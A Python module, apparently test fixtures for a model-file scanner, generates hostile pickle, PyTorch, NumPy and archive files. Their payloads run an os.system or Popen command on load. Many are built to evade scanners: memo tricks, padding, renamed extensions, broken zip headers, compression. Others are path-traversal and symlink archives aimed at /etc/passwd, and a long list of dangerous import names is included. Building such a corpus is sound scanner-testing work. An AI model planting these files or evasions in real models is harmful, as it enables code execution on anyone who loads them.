"""Weight files that would harm whoever loads them: each does so, or leads its loader to.

Payloads touch a canary file, so that a test sees whether one ran.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import pickletools
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import numpy as np
import torch

PROTO = b"\x80\x04"
# Names that some blocklist missed, or that do harm with what a pickle can give them.
GAPS = (
    "pip main", "pip._internal main", "timeit timeit", "cProfile run", "profile run", "pdb run",
    "bdb Bdb", "trace Trace", "doctest debug_script", "code InteractiveInterpreter",
    "ensurepip _run_pip", "idlelib.run Executive", "idlelib.pyshell ModifiedInterpreter",
    "lib2to3.pgen2.pgen ParserGenerator", "asyncio.unix_events _UnixSubprocessTransport",
    "uuid _get_command_stdout", "imaplib IMAP4_stream", "_pyrepl.pager pipe_pager",
    "_osx_support _read_output", "_aix_support _read_cmd_output", "logging FileHandler",
    "logging.config listen", "pydoc locate", "pydoc pipepager", "ctypes CDLL", "ctypes.util test",
    "smtplib SMTP", "ftplib FTP", "sqlite3 connect", "signal signal", "marshal loads",
    "types FunctionType", "types CodeType", "importlib import_module", "runpy run_path",
    "pkgutil resolve_name", "operator attrgetter", "operator methodcaller", "operator getitem",
    "_operator attrgetter", "functools partial", "functools reduce", "builtins eval",
    "builtins exec", "builtins getattr", "builtins __import__", "builtins open", "builtins map",
    "builtins type", "builtins super", "__builtin__ eval", "__builtin__ apply", "__main__ run",
    "webbrowser open", "socket create_connection", "shutil rmtree", "pty spawn", "nt system",
    "posix system", "os popen", "os environ", "subprocess Popen", "_posixsubprocess fork_exec",
    "multiprocessing.util spawnv_passfds", "urllib.request urlopen", "linecache getlines",
    "_io FileIO", "io open", "site addsitedir", "zipimport zipimporter", "copyreg add_extension",
    "copyreg __newobj__", "pickle loads", "_pickle loads", "pathlib Path.unlink",
    "collections ChainMap", "types MappingProxyType", "weakref finalize", "threading Timer",
    "numpy load", "numpy.testing._private.utils runstring", "numpy.f2py.crackfortran myeval",
    "numpy.lib.npyio load", "torch load", "torch.hub load", "torch.utils.data.datapipes x",
    "torch.storage _load_from_bytes", "torch._inductor.codecache compile_file",
    "torch.utils.collect_env run", "torch.utils._config_module ConfigModule", "torch.jit load",
    "torch._dynamo.guards GuardBuilder", "torch.fx.experimental.symbolic_shapes ShapeEnv",
    "joblib load", "joblib.numpy_pickle load", "dill loads", "cloudpickle loads",
    "pandas read_pickle", "pandas eval", "numexpr evaluate", "keras.models load_model",
    "tensorflow.io write_file", "transformers.dynamic_module_utils get_class_in_module",
    "sklearn.unheard of", "requests get", "cos\u0131 system", "os\u200b system",
)  # fmt: skip


class Run:
    """Pickles to a call of os.system."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def zipped(
    files: dict[str, bytes], method: int = zipfile.ZIP_STORED, comment: bytes = b""
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.comment = comment
        for member, data in files.items():
            archive.writestr(member, data)
    return out.getvalue()


def tarred(
    files: dict[str, bytes],
    fmt: int = tarfile.PAX_FORMAT,
    change: Callable[..., None] | None = None,
) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as archive:
        for member, data in files.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            if change:
                change(info)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def torch_file(made: object, *, new: bool = True) -> bytes:
    out = io.BytesIO()
    torch.save(made, out, _use_new_zipfile_serialization=new)
    return out.getvalue()


def array(made: object) -> bytes:
    out = io.BytesIO()
    whole = np.empty(1, dtype=object)
    whole[0] = made
    np.save(out, whole, allow_pickle=True)
    return out.getvalue()


def patched(data: bytes, sign: bytes, offset: int, value: bytes) -> bytes:
    """Overwrite bytes of every record that begins with `sign`."""
    out, at = bytearray(data), 0
    while (at := data.find(sign, at)) >= 0:
        out[at + offset : at + offset + len(value)] = value
        at += 4
    return bytes(out)


def streams(command: str) -> dict[str, bytes]:
    """Every opcode that calls, and streams that hide one."""
    call = Run(command)
    arg = text(command) + b"\x85"
    system = name("os", "system")
    line = command.encode()
    plain = pickle.dumps(call, 4)
    made = {f"protocol-{p}.pkl": pickle.dumps(call, p) for p in range(6)}
    memo = text("collections") + b"q\x05" + text("OrderedDict") + b"q\x05"
    confused = text("os") + b"q\x01" + text("collections") + b"q\x02"
    confused += text("system") + b"q\x03" + text("OrderedDict") + b"q\x04"
    wide = bytes([8]) + b"\0" * 7
    return made | {
        "inst.pkl": b"(S'" + line + b"'\nios\nsystem\n.",
        "obj.pkl": PROTO + b"(" + system + text(command) + b"o.",
        "newobj.pkl": PROTO + name("subprocess", "Popen") + text(command) + b"\x85\x81.",
        "newobj-ex.pkl": PROTO + name("subprocess", "Popen") + arg + b"}\x92.",
        "global-lines.pkl": b"cos\nsystem\n(S'" + line + b"'\ntR.",
        "no-stop.pkl": PROTO + system + arg + b"R",
        "breaks-after.pkl": PROTO + system + arg + b"R\xff\xff\xff",
        "breaks-after.dat": b"cos\nsystem\n(S'" + line + b"'\ntR\xff",
        "truncated.pkl": plain[:-2],
        "memo-confusion.pkl": PROTO + confused + b"0000h\x01h\x03\x93" + arg + b"R.",
        "memo-overwritten.pkl": PROTO + memo + b"00" + text("os") + b"q\x05"
        + text("system") + b"\x93" + arg + b"R.",
        "dotted.pkl": PROTO + name("collections", "OrderedDict.__init__.__globals__") + b".",
        "dotted-module.pkl": PROTO + name("collections.abc", "sys") + b".",
        "extension-1.pkl": PROTO + b"\x82\x05)R.",
        "extension-2.pkl": PROTO + b"\x83\x05\x01)R.",
        "extension-4.pkl": PROTO + b"\x84\x05\x01\0\0)R.",
        "build-on-class.pkl": PROTO + name("torch", "FloatStorage") + b"N}" + text("__init__")
        + name("collections", "OrderedDict") + b"s\x86b.",
        "build-on-function.pkl": PROTO + name("torch._utils", "_rebuild_tensor_v2")
        + b"}" + text("__wrapped__") + b"Nsb.",
        "item-of-tensor.pkl": PROTO + name("torch._utils", "_rebuild_tensor_v2") + b")R"
        + text("k") + b"Ns.",
        "items-of-tensor.pkl": PROTO + name("torch", "Size") + b")R(Kae.",
        "state-of-unknown.pkl": PROTO + name("models", "Net") + b")\x81}" + text("forward")
        + b"Nsb.",
        "bytearray-of-a-number.pkl": PROTO + name("builtins", "bytearray")
        + b"\x8a\x05\0\0\0\0\x10\x85R.",
        "codec-by-name.pkl": PROTO + name("_codecs", "encode") + text("x") + text("evil")
        + b"\x86R.",
        "reconstructed.pkl": PROTO + name("copyreg", "_reconstructor") + name("builtins", "object")
        + name("builtins", "list") + b"N\x87R.",
        "build-after-call.pkl": PROTO + system + arg + b"R}b.",
        "second-pickle.pkl": pickle.dumps([1, 2]) + plain,
        "after-garbage-proto.pkl": pickle.dumps({}) + b"\x80\x02" + system + arg + b"R.",
        "no-proto.bin": system + arg + b"R.",
        "frame-that-lies.pkl": PROTO + b"\x95" + wide + system + arg + b"R.",
        "junk-before.bin": b"N0" * 30_000 + system + arg + b"R.",
        "junk-before.dat": b"\x80\x04" + b"N0" * 700_000 + system + arg + b"R.",
        "junk-unmarked.dat": b"N0" * 700_000 + system + arg + b"R.",
        "renamed.jpg": plain, "renamed.safetensors": plain, "renamed.txt": plain,
        "renamed.json": pickle.dumps(call, 0),
        "no-name": plain,
        "gguf-like": b"GGUFGGUF" + b"G0" * 0 + b"0" + system + arg + b"R.",
        "safetensors-like": b"X\x10\0\0\0\0\0\0{" + b" " * 12 + b"0" + system + arg + b"R.",
        "buffers.pkl": b"\x80\x05\x97\x98" + system + arg + b"R.",
        "persistent.pkl": PROTO + system + arg + b"RQ.",
        "optimized.pkl": pickletools.optimize(plain),
        "nested-loads.pkl": PROTO + name("pickle", "loads") + b"B"
        + struct.pack("<I", len(plain)) + plain + b"\x85R.",
    }  # fmt: skip


def containers(command: str) -> dict[str, bytes]:
    """The same behind archives, compression and other libraries' formats."""
    call = Run(command)
    plain = pickle.dumps(call, 2)
    simple = zipped({"archive/data.pkl": plain, "archive/version": b"3\n"})
    deflated = zipped({"archive/data.pkl": plain}, zipfile.ZIP_DEFLATED)
    local, central = b"PK\x03\x04", b"PK\x01\x02"
    legacy = torch_file({"a": call}, new=False)
    return {
        "torch.pt": torch_file({"a": call}),
        "torch-legacy.bin": legacy,
        "torch-renamed.safetensors": torch_file(call),
        "constants.pt": zipped({"m/data.pkl": pickle.dumps({}), "m/constants.pkl": plain}),
        "script.pt": zipped({"m/code/__torch__.py": b"x = 1", "m/data.pkl": pickle.dumps({})}),
        "wrong-crc.pt": patched(patched(simple, local, 14, b"abcd"), central, 16, b"abcd"),
        "crc-differs.pt": patched(simple, central, 16, b"abcd"),
        "local-name.pt": simple.replace(b"archive/data.pkl", b"archive/data.txt", 1),
        "central-name.pt": simple[: simple.index(central)]
        + simple[simple.index(central) :].replace(b"archive/data.pkl", b"archive/data.txt"),
        "encrypted-flag.pt": patched(patched(simple, local, 6, b"\1\0"), central, 8, b"\1\0"),
        "local-flag.pt": patched(simple, local, 6, b"\1\0"),
        "central-flag.pt": patched(simple, central, 8, b"\x20\0"),
        "method.pt": patched(patched(simple, local, 8, b"\x63\0"), central, 10, b"\x63\0"),
        "method-differs.pt": patched(simple, local, 8, b"\x08\0"),
        "size-differs.pt": patched(simple, local, 22, b"\x01\0\0\0"),
        "deflated-cut.pt": patched(deflated, central, 20, b"\x10\0\0\0"),
        "renamed-member.pt": zipped({"m/weights.txt": plain}),
        "no-extension.zip": zipped({"m/weights": plain}),
        "prefix.pt": b"#!/bin/sh\n" + simple,
        "appended-to-pickle.pkl": pickle.dumps({"a": 1}) + simple,
        "appended-to-array.npy": array([1]) + simple,
        "comment.zip": zipped({"m/a.pkl": plain}, comment=b"PK\x05\x06" + bytes(18)),
        "behind-the-end.zip": simple + b"\0" * 10,
        "zip-in-zip.zip": zipped({"inner.txt": zipped({"deep.dat": plain})}),
        "seven.pt": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64),
        "seven-in-zip.pt": zipped({"m/data.pkl": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)}),
        "zstd.pkl": b"\x28\xb5\x2f\xfd" + bytes(64),
        "lz4.joblib": b"\x04\x22\x4d\x18" + bytes(64),
        "rar.bin": b"Rar!\x1a\x07\x01\0" + bytes(64),
        "tar.bin": tarred({"data.pkl": plain}),
        "tar-gnu.nemo": tarred({"x" * 120 + ".ckpt": plain}, tarfile.GNU_FORMAT),
        "tar.nemo": gzip.compress(tarred({"weights.ckpt": torch_file(call)})),
        "zip.mar": zipped({"MAR-INF/MANIFEST.json": b"{}", "model.pt": torch_file(call)}),
        "array.npy": array(call),
        "arrays.npz": zipped({"a.npy": array(call)}, zipfile.ZIP_DEFLATED),
        "gzip.pkl": gzip.compress(plain), "bzip2.joblib": bz2.compress(plain),
        "xz.pkl": lzma.compress(plain), "lzma.joblib": lzma.compress(plain, lzma.FORMAT_ALONE),
        "zlib.joblib": zlib.compress(plain), "gzip.txt": gzip.compress(plain),
        "gzip-twice.pkl": gzip.compress(gzip.compress(plain)),
        "gzip-second.pkl": gzip.compress(pickle.dumps(1)) + gzip.compress(plain),
        "gzip-cut.pkl": gzip.compress(plain)[:-9],
        "library.bin": b"\x7fELF" + bytes(60),
    }  # fmt: skip


def escapes() -> dict[str, bytes]:
    """Archives that lead out of the folder, or that readers unpack differently."""
    ok = pickle.dumps({})

    def kind(letter: bytes, link: str = "") -> Callable[[tarfile.TarInfo], None]:
        def change(info: tarfile.TarInfo) -> None:
            info.type, info.linkname = letter, link
            info.size = 0

        return change

    twice = zipped({"a.pkl": ok, "b.pkl": ok})
    link = zipped({"a": b"/etc/passwd"})
    link = patched(patched(link, b"PK\x01\x02", 38, b"\0\0\xff\xa1"), b"PK\x01\x02", 5, b"\x03")
    return {
        "parent.zip": zipped({"../../x.pkl": ok}), "absolute.zip": zipped({"/x.pkl": ok}),
        "drive.zip": zipped({"C:x.pkl": ok}), "link.zip": link,
        "twice.zip": twice.replace(b"b.pkl", b"a.pkl"),
        "case.zip": zipped({"A.pkl": ok, "a.pkl": ok}),
        "parent.tar": tarred({"../x": ok}), "absolute.tar": tarred({"/x": ok}),
        "link.tar": tarred({"x": b""}, change=kind(b"2", "/etc/passwd")),
        "hard.tar": tarred({"x": b""}, change=kind(b"1", "y")),
        "device.tar": tarred({"x": b""}, change=kind(b"3")),
        "fifo.tar": tarred({"x": b""}, change=kind(b"6")),
        "sparse.tar": tarred({"x": b""}, tarfile.GNU_FORMAT, kind(b"S")),
        "behind-the-end.tar": tarred({"x": ok}) + ok + bytes(500),
    }  # fmt: skip


def gaps(command: str) -> dict[str, bytes]:
    """One pickle per name of GAPS."""
    arg = text(command) + b"\x85"
    return {f"gap-{pair}.pkl": PROTO + name(*pair.split(" ")) + arg + b"R." for pair in GAPS}


def corpus(command: str) -> dict[str, bytes]:
    """Every hostile file by its name."""
    return streams(command) | containers(command) | escapes() | gaps(command)
